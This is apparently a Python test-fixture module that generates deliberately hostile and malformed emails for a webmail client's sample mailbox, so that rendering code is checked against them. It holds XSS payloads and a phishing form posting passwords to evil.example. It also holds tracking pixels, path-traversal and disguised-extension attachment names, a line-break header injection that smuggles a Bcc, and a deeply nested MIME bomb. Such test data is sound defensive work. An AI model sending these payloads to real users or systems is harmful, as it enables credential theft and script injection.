"""Letters that mean harm, or were written by programs that never read a standard.

Each is one thing that has broken a mail program somewhere. They are in the sample mailbox so
that whoever changes the web mail meets them every day. Its law: each has a name, which its
subject says, and a test that it is shown without doing what it wants.
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from datetime import datetime, timedelta
from email.utils import format_datetime
from typing import Final

BAIT: Final = "https://tracker.example/pixel.gif?reader=ann"


def oddities(newest: datetime, to: str) -> Iterator[tuple[str, bytes]]:
    """Give each odd letter with its flags, as the bytes that came off the wire."""
    for number, (name, fields, body) in enumerate(ODD):
        date = format_datetime(newest - timedelta(hours=31 * number))
        head = f"From: {name} <odd@elsewhere.example>\r\nTo: {to}\r\nDate: {date}\r\n"
        yield "S" if number % 4 else "", head.encode() + fields + b"\r\n\r\n" + body


def _html(subject: str, html: str) -> tuple[bytes, bytes]:
    head = f"Subject: {subject}\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8"
    return head.encode(), html.encode()


def _file(named: str, content: bytes, kind: str = "application/octet-stream") -> bytes:
    """Write a part that is a file. named: the parameter as it stands, quotes included."""
    lines = f"--odd\r\nContent-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n"
    lines += f"Content-Disposition: attachment; {named}\r\n\r\n"
    return lines.encode() + b64encode(content) + b"\r\n"


_SCRIPTS: Final = """<p onclick="steal()">Dear customer,</p>
<script>document.title = 'owned'</script>
<img src=x onerror="document.title = 'owned'"><svg onload="document.title = 'owned'"></svg>
<a href="javascript:document.title='owned'">Your account</a>
<a href="https://bank.example/">The bank</a><iframe src="https://evil.example/"></iframe>
<style>@import 'https://evil.example/x.css'; body { display: none }</style>
<math><mtext></table><mglyph><style><img src onerror="document.title='owned'"></style></math>
<p style="position:fixed;inset:0;background-image:url(https://evil.example/x.png)">Click here</p>
<meta http-equiv="refresh" content="0; url=https://evil.example/"><base href="//evil.example/">"""
_FORM: Final = """<p>Your mailbox is full. Sign in to go on receiving letters:</p>
<form action="https://evil.example/collect" method="post"><label>Password <input type="password"
name="password"></label><button>Sign in</button></form><p>The administrators</p>"""
_PIXEL: Final = f"""<h2>You have been chosen</h2>
<p>Somebody would like to know when you read this.</p>
<img src="{BAIT}" width="1" height="1"><img src="//tracker.example/wide.png">
<table background="{BAIT}"><tr><td style="background:url({BAIT})">x</td></tr></table>
<img src="data:image/svg+xml,<svg onload='alert(1)'/>"><link rel="prefetch" href="{BAIT}">
<video src="{BAIT}" autoplay></video><img srcset="{BAIT} 2x" src="cid:nobody">"""
_MULTIPART: Final = b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="odd"'
_NESTED: Final = b"".join(
    b"--n%d\r\nContent-Type: multipart/mixed; boundary=n%d\r\n\r\n" % (depth, depth + 1)
    for depth in range(1500)
)
_KLINGON: Final = (
    b"Subject: =?x-klingon?B?bnVx?= =?utf-8?q?=FF=FE?= and so on\r\n"
    b"Content-Type: text/plain; charset=x-klingon"
)

ODD: Final = (
    ("Scripts", *_html("Important notice about your account", _SCRIPTS)),
    ("Form", *_html("Your mailbox is full", _FORM)),
    ("Pixel", *_html("You have been chosen", _PIXEL)),
    ("File names", b"Subject: Five files with names that mean harm\r\n" + _MULTIPART,
     b"--odd\r\nContent-Type: text/plain\r\n\r\nSave them all, why not.\r\n"
     + _file('filename="../../../etc/passwd"', b"root\n")
     + _file('filename="CON"', b"device\n")
     + _file("filename*=utf-8''%E2%80%AEgpj.exe", b"MZ turned around\n")
     + _file('filename="page.html"', b"<script>alert(1)</script>", "text/html")
     + _file('filename="a\\"b;c=d.txt\x01"', b"quotes\n")
     + b"--odd--\r\n"),
    ("Nested", b"Subject: Fifteen hundred layers\r\n" + _MULTIPART.replace(b"odd", b"n0"), _NESTED),
    ("No charset", b"Subject: Caf\xe9 au lait, without a word on its charset",
     "Le café est prêt à l’étage, 3 € la tasse.".encode("cp1252")),
    ("Wrong charset", b"Subject: This says ASCII\r\nContent-Type: text/plain; charset=us-ascii",
     "Ünïcödé all the same: 你好.".encode()),
    ("No such charset", _KLINGON, b"nuqneH"),
    ("Everybody", b"Subject: To ten thousand of my closest friends\r\nCc: " + b",\r\n ".join(
        b"Friend %d <friend%d@crowd.example>" % (number, number) for number in range(10_000)),
     b"Please do not answer to all."),
    ("Huge", b"Subject: " + b"very " * 20_000 + b"long\r\nX-Long: " + b"x" * 200_000,
     b"The subject of this letter has a hundred thousand letters."),
    ("Line breaks", b"Subject: =?utf-8?q?Hello=0D=0ABcc:_everybody=40crowd.example?=",
     b"The subject has a line break in it, by an encoded word."),
    ("Unended", b"Subject: A multipart that never ends\r\n" + _MULTIPART,
     b"--odd\r\nContent-Type: text/plain\r\n\r\nThe last boundary is missing.\r\n"
     + _file('filename="cut.bin"', bytes(64))[:-40]),
    ("No header", b"this line is no header field at all\r\nSubject: A broken head", b"Hm."),
    ("Late", b"Date: Thirtyfirst of Neveruary, 99:99\r\nSubject: From another calendar", b"Soon."),
)  # fmt: skip
